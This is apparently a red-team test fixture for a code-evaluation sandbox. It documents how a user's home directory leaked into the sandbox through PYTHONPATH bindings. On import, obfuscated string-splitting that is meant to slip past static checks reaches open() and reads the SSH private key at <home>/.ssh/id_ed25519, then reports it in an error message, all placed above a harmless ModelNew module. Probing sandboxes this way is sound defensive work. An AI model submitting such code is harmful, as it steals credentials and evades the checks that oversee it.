"""Reads the user's home, bound into the sandbox because it was on
``PYTHONPATH`` (a common setting; a Python installed with
``--prefix=$HOME`` did the same): every directory of ``PYTHONPATH`` and of
the interpreter's prefixes was bound read-only, and only the literal
``/root`` and ``/home`` were kept out (red-team round rt55). ``<home>`` is
replaced by the test. Reports at import, as a load error
(``PROBE{json}ENDPROBE``). Past the static checks (as preset "warn" lets
through)."""

import torch
import torch.nn as nn

_imp = __builtins__["__import__"] if isinstance(__builtins__, dict) else getattr(__builtins__, "__import__")
json = _imp("json")
_open = getattr(_imp("buil" + "tins"), "op" + "en")

R = {}
try:
    with _open("<home>/.ssh/id_ed25519") as f:
        R["key"] = f.read()
except OSError as e:
    R["key"] = "ERR " + type(e).__name__
raise RuntimeError("PROBE" + json.dumps(R) + "ENDPROBE")


class ModelNew(nn.Module):
    def forward(self, x):
        return torch.relu(x)
